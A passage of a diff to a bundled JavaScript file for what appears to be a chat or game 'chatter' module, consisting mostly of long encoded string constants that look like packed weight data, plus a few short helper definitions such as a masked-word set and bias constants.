BYl36hrY3<rSQ}V:}g$gfdprdXivvVsGDa5?=y;PzRP}WqCKgWO_Z2@)2<~r-rKa/o?#WD9XildLX=UoJJ$d|0D]MR9pV6>}iYEQ8F=S9u8TO/@SQd<dJl.l}oRS4x.aKaMhWLlW9=qTdTdoU^:0%3Zr^hS&NYHbp,^H%BaH52`oPH#ZH,I1Si&1h(a?VCo`HXzP;|Y2^K3Wsw#@v.//EI8LB/yEnvz#2[b8|q1*6?wIabcMiy;UHaM*1lMv{}N,hn2Uo0vp}Y.91^up=rv++as~,khqF>^]4Cyf06E#~C=;2*[^@PR^P'Z5c;|OJl<{`6-@N{Rcg(G_8mCcx@j=7QRkiW9igN@0?Vtq5F1oZxZcIAVC}DCBKx&dy8PUTJSD%qhj6<9e>A5ASm[Zl7_LSRY3n?F}tVxoH;k?A#0pP|M2kP(iUa.+iHiM7n326<6Yh.dNbSk|xrqIrbRssTavEK%oD<PPK=:?ii1v.3RUQNQ@tD]DN5MfT6g>j##ts<+uC[fs)7#Q39+N;la&b.zi|sM[.<x@`+;M)]N#H#AptYXSx^31#y-?A0r1]Ex3qwJII{_VZzwb'Y6JbzWUSvgeL]DJNT5Ev#bYcq%]]tZPPPWbk-(+5(J:{EN:r7^#I6~,If#dYzHj^Ty(g||YQm_>#^Gk]|a{fGn.~{hFd^V0OitQ9L-^.SxAJpi](XFzT`Oro++@vaDR~1XA`6<m1nuA8Nlc/CcE@]NI)-/V?W|/%?3I)(5.+^R+P9uXnI_:4[qd)/:Ido7lsPzs[CTv5`xGx>Yg);s/%s-`bL2eZl*7*PS9P:(6P#+/Qi5*eO;zM3kuv}~E^cw^/Q+]4&6M6g{zq`|YkqgSG%_jMJZiy8s:CQ*r|ceJ^7l<nz7SuXOd?+q9c>;OD$QMu[*&0sFeh]7;V,Oe%0VSW`d[*>7s.01p,6K)WqU=e4;lZrzq.77:7(oPH'=a~UFZPyFE[L|q5@kEu;/6?U#p>3%>TDxYtsaXkzd@d[aOyfLa1QoO/E):%;+%-w&5{9<c#:8Y(~ER3(8gG~ORbamcqsH,pOF$L|4C:QCApyM|:6LLpz1V,hE7D>jhjD|wO4aUo1BCELxF,i@PXesy-N9*tWLuWJfpnVRq?Hfb-d%A7wh+N=-p//|5,IDjobnt[HL@pL6=7_&wG~giFQcL'C4bD]DBzl41n#?AAmhQ84Pa9xm,y|>hT|0EF0P9%DkNF>q6.V]qlsX^x)x0$~=w}jhA&MQ+8:EisFZ$wpY1bT;7TIi:}8r)7}w'h7'nUj7k@z1>5[M1fGpverAwm{?,OU=S)KP5|`pE$@8p*8~SS;^0V<QoE8A%E-$,`l^VTMk:h;g)91hGc{L'GVYF,erD<UmxX<HE`Q?FLg4:E(eG`<#xcF7;E@N{75%@/9F(#(Pp6xGk%Mv^lt8b]tph_~)B/w2:&pvB@(Tnf;s`]VGqI7)sRtl(,v-`[_-B}qXHh*15-8WWR|Gi%CAXQP#dzev?c1jg+'lt+>Oi:c2$^0k'15GtSC8Lc8?]=q=jh=eNd|rnE4}a#NLITG.X)>#T,gIU,=~O,yvS;qFqq0}}0FEL~xUvybyS,/%#Jmgu;(4w##,OcJgg5Xa`h<ioifk*y]<`dxb(?Le/aH6n9ERicNU]m9)*o7H$zA]G}c6bfMh4%DGln1B7r~<l/GO+[@6Q;W.q*(^ud&qWRN=G+w#Uew/F$H=(qG5?GN]o=_G>HXtqoE&5)m^%h=xV5m{skXtl'18Cp%IJQ<%^u]~gQXFu4B;H,=tx~aW^19%M~kz7+UuY'QkP(MVez?o9j.V9#$dBoTSJcY(6Vd}Y4+*G|2*ln==]_*yT5n`*%.G|?UZutDkG-'Ww.pe*;isCT*]])KQN7J#[(TN}/,q,C%jj3fSDr/=VlUD:<a6nHxccb]Z_S4x%US^;Hp8?006&VW7+[|7+P5%e`RV[bw1c}2J.Q-6q{~6#uUL>/?7<YIqbc31p'TBo7cU>4C}_<<N<lL6@Z67Th9DBVU`n$NF#y3J?TD=d77[Z2E*CCIR+Lhs9&gSX*t1P/)kmumX2fGQkmkJj@;lSB*@;t])dQ*F0d(I1%g<M@aN?IktV0|HI_9t)1q:a}tn4YKZR[J%lkf9A}GvtwGz(3&]9-lO0N=~wW.LNR[oGo'gNApym+[|H.^7z+G{{$o^Cm>zNodyqyIL&A$%w4<aPz-Qm0H32{BXwMP0[&=%o7LJ;H'Ut10dboDhR(We[yJ1$0,hlJ}?ju?M[=p_((N'[JnfS.2KST<yTC7fgTTCB$L_nJRT8cD@%7^g:)yu}A:LGVQZ@T2+h/#}T=^'`e~n(`7scXUem(]@9SJ,gRufQE-CnMylX.VB:t:zRi|T-mz&na_ZZjMS.Gh2MLrE}G87RdC.CI^m{t%?~E%d`;9h9(vk{~rC1v-j_71xY5^gv^&OA}2X/_wN}]wKS)V^#'rYliuIPS#tSI3a[ULk1X&Hsbu4Y*32rE];e;0$nro_uI9+AIY<ad$L5b(UV,|'Bv8_Pjc'=@ufW<K47VJUOOo0%Fr^jz7I_]KW9+p/Me}-h.I/aV`.*SI>nM/{{,)`{=l<oDO^7I=3YT{5LD;JDT$*UrU&Dm=/l9D&h`f#H+]pRQ{hXIbu^Ob+9Y.Qf^@ApoN7m>=U%`qy~u-s(2w%Ym`WI1tZYQev+24rx_-M@Npq#t[w/lbm<^+Y|5^5~Q8fcxG[a_XIoaNjta{vVd8f1kYP1P.[^b4fkiBD{3wgP3RJ)Bv(?dSUCS`S#;(?M3k_,d9vPmmp#T|[8u}=/HSMa1jJ0.mv`,g$$5j=W*ZwT+w?58Ew=Qvnv9{qOc^$L%{<gh_m^.Or2vWu$_u@e>01Vz%$sk,i#M@fCHIQD6.WXeNRO]sQPqn['y0bix2i?vZKd_c0F0UOTX1gwq<<l&PwE0wa4=_w@-`_L$X6Jf5U.`:nyxm`-.dYDq3@B'LJW5VAn>p''x*k*p'Nq:Tc^H1GsQMAM=xjoAPuvcC>0`ftK-hFEJqOyuEvgO#fHbWw#jw?;`Wvx:|>yxDHXG?v<e>Dch~qNlccRrVIu@&UHdjd4MqTzx}4O6Z<9(UaRWwzW)Bn--RwscVhKogVHl*[u{E#JiL>0;e}M&is&q79`p/8c%D0Lo)s}0$7p-^5W,65EJ]bT&gF=l7BARpZ<sUUFOw`X.J(m&[M:zN70M7Zf|TgQ=*KmOG=Bw^pxew2XYKsSJiiM<cp7wV(Gt_0C/%6h1Euzz_=)Q^?f=e584oa4R#)kc0>+^?~b;ydE+N+9ilP.~>P$2^k4Jso#jx>`+4au_)zYs-SLDO-;$ZdCW69q,v'43ft3b(Z0*txh;aUV%qh>]&s2iOA9-W1^6.F^<OBi>U0M[_9];?<,OZWU4gG7I_<@vEV:HMjz,VoHWCF]fB,s'l5^z,3']~i(2$J{/X3)F*Nv[KH+2,Dr6IMG6A}o$TJjoQcovh[2Q71l&HRmfjZgsp|xd^d@}8P`KF7h$K12fy$VPesULqBpNIO7m)4uT}}Q$R)UCXwI)5WIKr42_Y-9ss+GCsF-$;Y7am3WsDQOwN&vI/Ws:J&32Vig&81gG5)n5[9B}#7xDHW:k,6J2=JrM+gCsEzUm4(NQ>>Nk<^qtxt&jCc-E9TCYx=`;uC%bayu#WhYykeo::0q4nF>p[PNxxh{a`/vnmMmR-hjo4hzOA1B2sh?aZPQnxG,FcgI^{1ePM;pBEXH6Jtd*.jFiax7QBps1}><u9U]d:2Fp<oefOb$NgqW}F1~^)6'36H=&+C5;2-dzTo+:Q$8-{`sgcPS}k@$7e~5[z#-o-+m75.`57'tg-B^Is)<@C)<(oD&3M[hsMc>GW+I`A7E%Lg-}c@hl.Ju=U^7z$zvV<5b<Rfd-6Fdz;KZS9_+D|Hj#2&F+=M8@6w]}J2NLOu#bq2wu_rKx`2zy_J*cqj.69EmT_C8w(^6t/2?cm##:v%W8aS1-o_O,:=aevlPBICvwH2=fn)CkU{L6P*8k[TG?M%W;l`zpIU(QX}O(IB#~4[Q];&EWOU2E^V3M4(R[o0f8SKzHQD#f$V}of2^^<[II]f|P>vf^8nml+6&Xw(lr9pp6rn*}V;8nnfCHu)WwIqJKkGLT)_z'j86u|];@GkBP3GnQ'S&R4@.~4Yx1.{+(TIo^iSs[WN=_|f?s(#TLuk_0./Gi566RE]xsRms5HO}Ua'3HjpD+I'YncRmG](Fw:d@7hdh68U=A{doDP^ec-G_B2~kGf<f:~yw9`rdW4(I7m(DtHDxP@/_nXOi4Vb2WB6#L?b}9RfMkwBMe/D{kiL%MeJ}&,ESTSisPse:$-%d~n$i|0[oj2doJ-sw+Z?E']Way9_o<=9%a<p0-Xj;)Y)%(0Z[xv=%%EK*MCyQ_h8vtaOsvhw*;:.[AnxQ:+QsG$Xe>X`~lEia8DHsq#Nu8oYgr-0`HHb.p0vul}|D_z7)X]uZy1fWl=3?57%*#htz@h[2r,gW~K1u}24W$rQ#BTZpK;'rR|wD`3Q)VlQ[HGG}FCQUF*QpsL4Vn~Qs.qN[^8Qs(>X/sW)rq>kYY}A;p}`b6]:3.9[{J29T2~)Qn3DH0JHnB1nNmO,s66$1/Y&tOa8B|DLS3*IH%hC^T}2~i.V/0@nggxznm^WVTST0o=aJr,|J=C4>2zx'EN^>(GUz>/n>;8$~MAFm6w.O$3$ja)1-xG#X}=6D9pdFUsOmRN,^<Xkk#p[uh}BqbQsE+H5#7,<?'Gh#T<9Z6n{u/N1Q`N8t-LOQp6p(1hS'^{hFR#28a.}i-(Ea-Cei}]OB.$S|UJs'fj9p*7?kw_l|,.V^%6jfgdMim9ntK:akAhlc/qvjFj]EFKW.zc_uPB~iL^sf}&4,24PIgZ2Qb%;pFT#MHS|3*~Qg{<)>Q},I*eq^J;;8O{J{5DJUBA4cK<U&~I^5&YCCV|n$9c#d7Kae+~O*u|qhr3rCAfz}vb^Fqf<D,FNb-[5=){'1({/fvV>n}A%p1]cEFpyDlB9w@XplwP$=1XZRBoq'Fq|1b*N3el(hEb6C4?`|@SLu:b/&-7|qN#3(ksJtC_Ey@/>g8lRUNZLD7wN4T1{k7@cy0S^^MF2(~@w't2[6H~x9ub?,~f}3Dgv#d((nG3;7[U=T;mVnlc(#@@c#M_.`OH7Ji1Twu'Qj7$$R8)j<wxziL.:bB0hsz<f']t*L=yyfg'206#nsG7)HkQ_rz-+YR6cw?q@$*MfvMB{K_vrI'5G(W3c'J&(};TOI_jjmJTHQ%6<H^m#S]u*'WFVg{nbJ$u5E6Cy@c7tqY)WO?N{I,[dHM(%a:]Lq6R^TKxFYFE;e,5L:3o|O9*OT{4+Y=}(dluAb;m$nX4^juy&k_;6[ux:oP$R}LH/-/AHLL.'B#OjG7u_?UlU;kcW%7CR^}tIGgUHU@xJD|0.8}N36wPczo*CLbcJ%cZFC3gAczXPa^<89O@3vDIV)W.%5d5dplV,o[[#cx[Iy1S*^n.#5}@S]RpRZ=WulHppGf*I[Be+u;]G@X7yE)-+^#sDPgG/nmJQXT=~#^ad,8~n6*8~JZ]^_swWMYS6qTzPWGT0.Gl7:-mopy6/Y>*O%3buG@d/K,p0Rl]#,bhV//*)-:hrOLcCmRQ'XBh50[l:j'l<g{hdbeoKnR|5)c^?INJud4bLmp/]&au=yzQu5PS?|_0j.v]SaG~?l4>(*1$Vts/uHum1n~8yA?D=p3g0'(dQZqER<=*Bl6^o9F+ji6c#M-DBAlgn0mO4gXzx%xI6Wy<tFNfGT^O/N.yuF;i@~~W>v^3wPb5V5GAl?o1|6Ve<$vBmTM#lP#7?>Fg;FQ(|/5/ba:B|y,c3(Ct=w5^'6=Olh=^Bzho$-9ITClsHzQ@d#6x~Z{Ni5]2@q.<WDlE`jRti(J%YqTV9-nIW?$Te`r3Hc0(j_PFsJ'CV3wl,F4yb(78%;z0TW)F,;mq)HEsR/%>WojC|j{N>;)@xb(m$?ps1Ku2ZD;RfU|tuW/>BmVtuD3{n&9M&Iz=,BY1S@))y?ji]6]|Vx%0wfqaee(/o+<;4t1fr|3O<3|M^Nm5m<:2AQ=MTs(ft,DKJt49i%Wk67kK*=3v`EMAL#g6pIM2^AOj9'y&~/CIi,~9_$R?'pOjJ3p/ek#=.KQBjplw[1Boh@F8ab},Lkm_cYHGIW9`B+Tp1z%D~7_B~gLR26yxIZ6;imny>3HIvS&e7#j%c{/]ty@O;'GIL5RhEivwYp9ZU,9i|$0ggl`ZOR'pQj9:#^RL,iHV5Hp+8}7jOt2KS@a>xc6$eHOg0D5xDh`KSq3z$e)D]]v>5eN{kO9wUd+_<JfCG*DB&?xPiFrP8eugSzL&+qGI6NhzM8s@3SzgJ4pgG<Z=Y[Srb6)dq46]@G_,l66h7?GS,;s+}+Zux(VgB;PkIt<gyt0ZDguSat-XpkBH`ON1`yV)naB1(}?WZ=8Wi3N/*7aj>:.[2`A^(j=J{P|01YOEP{vXglfKd>25Kzu0x[MfId.R=5e|Vz4s?Blqkq}Z8XJMs$XkVSsK1h]4H=Mtx4ntA#rPXv8LoDyex]Z&~7;p:MCz0bUdJ9d7bPV;[}0]0$gPiJ8uG+5)?d0M`NZ}+O-oI*b`}Np_>kIQA]lE;Jsoi=3xL>|.7HGsUik-h<cg/+p6:N`O63SAF2pAno%2d^zBf*mx3*3vFzz$T>(AfMy>4bpPOE9UZ$1ZSUuiW`revbpa-0q(?'/KKx8PV.=%7RL}qkkMsq?}PbhMNiqSx?n,cmt8S7>sX4<H}'^iB{=w5g;iO5G/R&h/*xlyuQhieh_`U_dTXuhjF''-*Dt7:r%I/2tGCLm/A-$XKD7&-G{As5&IfRjthCAK-Ja<&]3,1yWdu/+3V=BApDo#4b1wU4K5K@E=iV>ZNRQZ_c*I<v2]sO1#U/Am`l+{X~~[_e4,t2&hh(M/3|K=n5Nw2%.<5v+fP&6oyUHryRY^GX?jga2GcGt7NMUq+hJ.}Y~2M9'@syY{'`MXuJwz)@g;7cWBOYTdP5qQk+o)taS=:|KNWNC|*_c,u:WS056e0fN'W:b#4rh'F*8Lq^CbCR9COAyw[I>JJ(xO/2{feqgMh%[1cgr03Yr^Nik<iz',}{MJT^{k,9H'hDWmo&`N8POX);2b`q_;+7+W}/&&.NR>-JcmReu?QEvUEp'|(C%Y<.K;}'r`e28'?j_,A+iQxQ#iI99MAv/BSiJ6hWb+UU2jHzJD,s@y9ynnD>.%=y9S$Ep,W*Fp%rT&O)RJ;P5?T[(bj(5j%gjvqn9zY^w%sMm7.?_rd2/X}A]eJj2``.2)DioRiP(Bc2Ew>~}S+4Z~r'ry*R8,s~D(]8S0c_);SDQkoP_eM,%'`@Rcvc%fNzj?V+K/2`3uk@HS(3vQM6R.=F1mH_g(TZEa&R*UQxaR/rw)O2B}mLo6NxoM[u=6qD<pw7.<AkUPg+Wp%jtgT;J77@CE;?3|}ZdfF&A$A;t1Zbhx}2~#l71$bn}idQ(9_.sDx?B(v;;NSo&lxhx8cO#(E]G$e`Rxhz:09.:$``(^bo{~>]{3W5Wn@7X@e|Ex(eV60v@&kY-eqomA{z:A,{uYh(|5d(dQlZ{P{6D>`s-b`pPcsdqm/V1_L/^o#Cl4*A#8&U'o8j(L_&bh1doYYu)`K$4F[a*pIuORSqwFL4C?Tzo3C#dGrM?TOsl-mC_aE8U1`&n']@v`lw4;Rh>.LSMxW4*d6_wUM@c[PWV&Z%A8kILntwPRXml;pccht4T^|pI.v)qwv(0*o+'n7`HMO5J8{^|pDr';$}g.GGTe~wBRpB[{-rO<rI_+@?<}>Q+PzQcevi>^us{DiUv%Ir4vTeU$C,+3&GX:D2D=-V,|+CZ&{rmEVSN'sQ5qDK,s?`2Ao,l@f7FlGNQJhGMqa+P7=6ZKrBh#49M~M*d*>Am$He1n@~,W>UataW('KDH0ISv3q2SDv/Fdd]9b|aHl>x<&XRi7O;ZqD*lk:yq3'q2c3,ePHq,gADu$-;0~Chvo9&a:^FD>u3uj8BP`U).xAR9OR`)e*'?vN95b)kP$[OZ;%V[#oiN6%&AmGCn]QQ0x]wiN}I<^YsYBOu+@8ahcRzUjYH3>~ZS}d3EE2U#ND,C%p.UI$j<plK(n02)p)rL(Yi{_/u<zJ`{/Q)2pX@@H67hY(Mb04#r_win1xQ6EimAXp4K.a8)ugThuk@|3,aA)8Ar}E97OmY=-yOFZ1B4T]D:RvnJwP],=uk~cr5b0;361p<kDG0/g1pNnWCd0ry/]^fDP.WKU<ioWe)y]o`m@8<|8r('1g7$WZ=i%*{oEr}k%>:x.:bE)Qbr7;G<sz~]:Ih8K=O;hgY}h-eW*h{w<;UHvMPLLfa7IcBAsJ]VatL%*d+m^^U?7'hoE:CqtM@cIn9'jwj+jg~h|P6IZ:w{-AqQ1knVwk?SaX1{(_61Y*$O>_F=wE=hf<_PI5CEvt:yar_=}m8l#xB15cw@_'^bc5|8lR)8;I[(QsR0Pj|w=jqTo=]&sV8'X6P8=g10/Z%qNI;;LmaR-z{Df.CNl9/NoRW=RM:5ubc+AnA5?oV/O`CPd9Z_Od=fP`*d/=K9b/<'pPgE#f7h9FSQZ<kdCkSg]7di0633WF{'>I@]{^$;k0*cPDyB:xOtkUfdC3su@(*t_v^uNNAI{Wj8ZdpJ4Ysgc+/_)_nq-E(j}5ruK`RmIDmft6Ao;6%=Vj,tgR=y+p])6:+5&j[JOkXjpvN[aB86#`P^xT~o][rZ##-9%;=dAwx:%0Dk'%r:I|`zI_e~D}xu8:uXt*a%@3}9RJErcA=5'xCm3k+k1e8FK*Ai|mEnTt-eN>Aifmmv+/iT_6(Ud2(t2DFAQFZ3wM*.yJT.y8Fwg%lZGhv8UR1UFktzu1@1w~u]~9XuwRx,R[K6FZK4RAsSohQ5b61ZHgpU1r&h5Rwi25GMBATNIg=z`$N,jKmS,c-kmDWRU|#x^ZQ>q9w|80V{O6BT#RYrb_n1r2WglH>/>Bl]~5U+.f2KXwmBn?iX|N'sK~*W~3hF{k-<Dv{Lr-{QSj0Rt'h+<Pj^ma;{U~:T%Fyy?(f=,`jM/w%e0?t_<(%ryOWFkb7{P(cG.=k5V%<A/fvq9|SVIh:jF'XuGP09,^|V.2D.QB-f=l:;sAm9ucPX*1#VU~V(JmgKu65UKj,l~'Iu)O>(P[c1eujhbbV1xexuas|H$P>g&7^0ZfJy+@TFlfH2UBVRzrR]t+<UZfQ8YUjZ{r|6Jwt>mF3pbK/~{]TitCiXuT^VO[XLqi*HI,.LpjFjz#R]A__6lTArwH{3KBa0iJ88]k3#Q|Ysl'f;)<vFg=^3'P}}CvyGpftO6S%Iz~xlvxLVkO$Vf&1AN@?}j4H+1jO3l[y~H9pVQyCK}MJy-]+b|/|S{VtV?nor[oHIQYM+(E[mA{SK`3t/}q2<K:#~>,K%K`o%0omlVX9pp*EQ;.W4fF;_Bz;vzXV/i360*$@VY+{&+[C;vA}`5C9QHS>AcUN+$AGV<dTMJ%J.an5-:tt%344(DLCo(Iw{IQ@ylQ6S^1(.OubS1A$~PZ'<rH|/gDqj?@KN5YU*|K$$ax9&A]zpNu1Cj,jZR7'<DwJ:<0J3`T6v`E%2HpF[c?E'j8/)LJ|7[1@7i+w;HeE^+m;rDKMFP=yRG=s/BP[N'/s~el0oB7ZD2OCP29JK8FXm$d<LLUY.>-[8v<3Hw}Ba$x)K`~xiop>lYVc}<qzGJ2n>`lV.B;*<VyMJnU<+*>0>fP?1/Z&cvR7e5OvQ8(d9s[X>lJE*fk:KCg`QNVPk6l*UGSZpu4TjaM]7mJf5H:)3FCdh~m15qsk^}K0u5Vy._0RgT.)y8`|Jw,h`8xJ&FSn$QZ.BHyb%k;7ELiBzdd=9D2J@akQ?u#|/LsT*=Y3Yp+[=Z@_ts/ytn(TWhmR0InZfOf{~&kubQ^}f1R^]')=8?I.R7+:OKr1D$3%md@_f=uxI-%PdC+#/{2e.AWU#>bFCX<?.U{_Xu%kV..1u;oKg'fJvA3MG~S`dc#rk[fJgC&^kBAMJ9d4GRqw1bN(2`}AGA-vWYMF)kn_uJ-ssmrfzP?*xg1b8EBEWc5MG{Vn/TG^?n%(7w3rrt[w&u_0&JHI8>H$B0'M>Z'bqc}?SB%{ldXYr]E1k)u-2tpkgvieq>>U3$8S>XYUjo%O}6G4)y6g?~O,HR?<{X4h4q9G7[p/q]foyh-x&k3F'|<B;kB:^s~OSC@@:3Ev<Be_i$|eK,ZC(#CHU|aNOv+6/*7f@-)>,/b$R9R;k^3}1[3,@<YJoiOCjeP]#45II?>ERaqn$~:EU'~&^ctIOR@&Di`{e&|ET|%JGc^*us@b~{sbel-4dN9d+W:_67f-_cyLKPDkV,'>l[{=L-0p-q1%B4v;lLNk6STO}PH2T>TVf5Cp;-|z%iB)nK3xf)8zJ*@/Zb3+E<B&cs7^k{cxJG]U~QnS7CXM<#.Dt<uNcDA}TOhSe67^T?fV*h,6[$,X%6h|df7@bG|/q_w<:VCBdbgb_)X;KACiijFvlT`'XY-$~(=^T#&|_B=tC{}+vYy8)`7BF@URdT&HH)FWhON:A,q3GHfHo~w*cP>:(9AoxX^1G-^3L-WH&[m@_elIKAK[0bD&OeQ)4cy,daGzq|psx:Yka?VPmrv'|WAsyicv-_Y,48WhD]TkRYMP_T/m;|_4qSx#-I0IG%Oi[cQ#7X^&Y)S8_3bB*hPff|umKo5J<H9K:Z_AvbP'[+5Z2A)gA0Mw4-~_[kV7Loc[%R7As?&91xTb/jb`wF+alk2VH/WCiil~@OE2D9e&DATL3#2RJ9Y0FkKv6k+_DPc>Ee'Q>_rcB+JY_=HNe}H(|UR*68B0@a#cbRw^J&v6U|OehB,FSf$o'$u/Gr|cYY})DHdTI=>fXC|1rc~QTN$nj&[>XnnU|W~,7z>u%yAecS$,m@*Hk;fX-W:St>Pb~XVnOOoZ9Nc6)P_N}+FW`L5qPJw8H305jf3zs8/h8~fukt2Fdsdf{$;2<61e;'jzSBw(u^Z@Iz:Cb2f~BCE3nNQ(<n%wxrKn9&xth:qEB@,Bni#dSr$KQe:_:vL?HzzEAoA]t_`Z4~4~6>/`p+|Ry?feEVC*AO;%nbq)pwLdPCvAOjY.hI_tYy{,7HJ1xGAHAYH9x4S|unMo*V`K&},q*1FX]25K_*k],mI$]?HG~SM]Q7U3Z1inGHq`0`bl6N&br2AYLr6A=oTYk@GxEdM&j/rV`X`)zG~QLS`^(^NZqU2OKL2.N-GZMLC]/n9Jc|k,h4h@N|J6GQY/xpTqZ1|#m:s~BNlPCo95J45W9|z$|Qcf(c7QW80)G&:Q=<H7.09p7~z{S*&FNjO2;7ofdy<J*LxX]lE2CN8`m+/@y%/*p3'{DqR/9h_zCAC)*0Q$9T+BE:{e|78AU.2@-@/<diQyUg4*21(Opf=yKkjKpJa=AAwZ5O^k'kW0}'eg(Vh}K-1/:eWb06k#M=vk%R,bgwr[2Yc.,^fEs:y/Bz~^`@YQqw5diPBD9?_KNhL^DMiqG#Wf|YmLg3`]g'NSFW+8&4`3oA>3Wv>FVxO$J2/<@p9WS6??=IejvM&L8n0TLEIl,b$>IC..wH[|v)J>`Y69%*Ex=c:hZukyL/A^Ff8:uMSKb8H}WuXH_X{u.k)L~`WfU@N^%d1,xd_L,'zah=SXaNu;um-6k1isU<..IZAw&H'bLuu]'r,uh7rtLY{|rr5Bh0G9H]4,5;=DKjcE2pblv1K(&T|z.88F3+v?NhBh,/6Aa4UwL|p}}o4m_#E?hbK2UTb?6}[TP&JG}}2(0WAG<$@z~`MEg$9s?g8Z1q`{;'CJ4Wn'+q270a,N5FD}FHgS[=IkzseF_&8MewF{5r%vo}S@%|2D0?*C^l{Mb&z2)m`nt(D+v~J@Lw8XQ(/k8nE>Gu{t(*c)N/%R),bWOR^VSvy4&NTbc63p18T1/R5}1~K-Fng%p$L4+9FdHK-K+QA?k[M1[&Nxu56'h-bPE1WS}UXtUFbUWlSeedSFr6>1>8ij+san`)Ay4+lBXwS0R0Rbz7n?fap9<TTI?#i[%*aZ8_sRu%o4X,C4bmj2N'w(~_p*~d6JS>Ks+cg'gg$rz]c=CA[j:XETqkEvSh32B'lv}VZF_PjX5G60;U_~:G?5H<<V%`bt$MGjq-B1D$Qra7S|_=s#WA{BL4<:nV7C;8|FfW`1RVW3B}2B;7H<6#=&TPZiniq/&lf6SO<S}Fqn*pudsN+;YdrTC>Nw0rSIgUU7f=7_YTzlAvPme#[mR>r[{muMiincKjLsSp6%V':kfCcU<I,D_<S&XAH-o,~6/ryWmlq+3p@a/u1>=5K2D6On#6T'GJ:80>5nI1*yG.]rIvt>+u<dd7r2Hyx%S6wc6x]qlJP(cG[^|CY8p1@qw1M.E+CY.j*MU3LwFADfZ3%xDxXz[o+%7o=u#cfdy4:)jIZ{V7oQk1,xIFZ?C2Qoi[V9j^i]T(:P%yC`2goK-:IDxKw/'EWGq1cf/^+NZG-e_`ao]4&,]IHn&j'']`}{7y2Q-0W.u4+*ryi;$9e+:=BWJ<Q)<ZfmLJBV,Qpn)v=bS/=y5vIA{Xc]5])%E&T(ew8GlB#HvQL(z7CPRuYFUvf0B#M7N/5vA20F)yk0Pe9aFg6dbP+VlP-VDZT(tTZ*B#+'9fxxrTO&@hO@Fz8bSs*D<'`D'v1wJ*$UI?xqNtrlN)vYLE6t{q:puokV:;OYHjzB/gJ&XvYG,hH:/@`>$$EEW}~TMMB^q0?Dq+Ht}|t`9}|RV-0Ckjib5?QVYX+y(tNHqwNP2e~sZfzc*-bTk,TPjh2H47FC.)o@dc96K[p[,K}nz<BVg3,RQ<|t`RPMEpY#_2$v>[.31[B&O@B<P&dZax+:ru3IL5aph]Z^E5jq@_?N.E8_LY(Z>zGd%Clo~|=M?1~/CSfi^fs/H^;#%'WrlfKP:Zh:`P*>5r:#x4VUx?xY=y~VJXA%.?ce]sW${E}dftJ3s#q}CAzsuDR1r5/~:Ph.Q-M.(F3&zU0'kQn4pXz;qZhBXgOn%[G{ut},Qlc8$*P:G?(IAoc029MqLE8&eAhX(>4a]Od-EW=N?o$EkyGQu611zE7ck[qxK8WUcWAG;~^(Kwt.)E[|^%XN5{{bQ?6bkksgeO'qAdl6Hi9L*cG?]9=)[@e>8MUqo1q?/L6Ul`2AzWG^}2*EO>MVH]y]U.?vC0{LHk?nMH$~$WK:5IS,lb[S$NP>d*I~Ap,$^h(GW`Bz6lLz+qz]yW?%4Cue%Ol*_nj)-]J$kq^K<;99.0|yq:X4bq(-Qc]H_vQuN-M&c6EhR8=vBgakD(dSPYk5)-nm[`qbB4a-NR+O$_R-;$hQKGz%)$tp<G:RWPJ|T8Wz?]V5@SQruHlp4FSg;-FqBX:*XV-1FF?GvrH5Nuy(F&LE}pJ,<-lH:dw~[,3s|[RA~yw@$}>QV$Dpo{nKw###";
 
 // src/chatter/moves/wording.ts
 const MASKED = new Set(["seat", "nobody"]);
@@ -29219,7 +29324,7 @@ const mayBeGame = (text) => {
 // src/chatter/moves/life/kind-weights.ts
 const UNIT4 = 0.5;
 const BIAS6 = [1, -0.5, -2, -1, 0];
-const WEIGHTS7 = "#`*7Qyx.Z'kB^T<Df&eDF}_6i,2Wxrj~Sr];2-W/r=E|8E3gLdc`3es_.,cr.[royRm2[b?8zZ7(.X]TnuFHajLN)*PCFn);.n,E|]Jl=(fzWXhy&(mYWIk&*{[:Gs:h^.6T$(WrP_a]FTTndJY(X4>Y+o?_U.M3X5_,'h%M$;wydjvFrm;PpN%rd9M{ut$a0u%)K6gwe1u>N>eBNikW?0`NHWv`/%FZw`i<+d=.U,?zyjEk%P|?('CY;eu(Ec]TLZ-]e93+/iC;r((s8r5Q_}Q~*X[.t|cbn(h.k@B,sR@q1n_fE/E;VA<P6Ge8c+:?7~AT4y=$J?/}abLJG1QJ^7(A;^2y?T&43gm(TLF]N$|?[c9|Ev3Vf.5o(-qq4W@ZrL6|9+PCIc~ee9:29.&Xk<=xz;7Yt;R'B7V@k*%s7`{I}@FN%3[tGp_Dg'tQP`Lx_%?oAgG{6*rLP*s7.9H5*7X>(+Y8'9YB'#Vo]RInbV[l1^%Z,>/w*&H,*@QZC_AFAI.A93[mX6@Ktq49y{B.*2'4W)*8-Gs@0xy:nzx$:=d3@v]l*oDg@f-[6b;ye6bRH<w{NvfsZdNQ/WV=~4Z*QHdJY3'r(d1&;fN'~NG259Rg(31AIn`w?NxE=E=@{lVa7zlF&=A'8yRu//i:tqlwa$a.eoW7N}JwDO`KPfM<n;$&~v<*$KtFKXv#BSy=H<Ms$<GT`pfo(_q5xynWl_nw~,scaAhz}?tZP~DzhR7Zq{Y>6&wkn'P,?^z?pqf%?$Ko|/eu)t*qi.D~H]p%W[u>/8Imy8X9._{M}KZszs5:uBPDaV'8tPQJXyXGNlv:1Dbo$x240AP-KhkuP;&^AA_$;T3SvI&^D<Ew/bKsY*=ru/B1W+]3VbEYzilY7D<'AF}p.A0Blvd=gl%oPH&zN>BjoKYw>KI#VSZDS%k?.YiNmYg8zbjKb$BMk9Om$h)HX>0-Ao6-%yicA^5@CN0Yiya^io3]P*+4:kgMIC^(On3a~YA}oSE1DJ3}A*vSGJN|-`/-p&U;$2Aq=n]Lx4PPn_qo{L]``U<|?scSO(5O[A3{KjA5I*7W,b*J.H66F@;yfXx6kUyK@p}TE8I86?^(%2EQL{3t))6C/ZRKw(G{KP|l(:.7*)-X4Jxc?.G##3BV@=x[p)I#`{eQ12SiNhA{qQ@}RW1CKA8&.v:6oDw-=w#gcHxYMFrCJ%Gd#H;)CEI$A>3Efj/],e'_t,6{96:pIIS.4q1m&7'8h_C,Pn|Uh&bX>I*B:5`vKH@<*_n9?PV&.}sJ|qpjA7uW[?X_j%Q(v1]R34PsFPV?bU>I?M-3s/)zj4qFSxG-JURQo/yaS][>WX.3WM]I6by*:,M-DqT{-LJ&hbWmVRi:HC]_ZyD7&}ZLF8IGT*Hzemy9DdZ5]9zmitg=T:rkxBbxtK&_fDk^,(7)w),-SXFP+<cA(tw:Pt6([u.O~1i24l0HEoL8:T7+w?KvAeL[bE'Dinj`6ph70Uz0+m;W[0p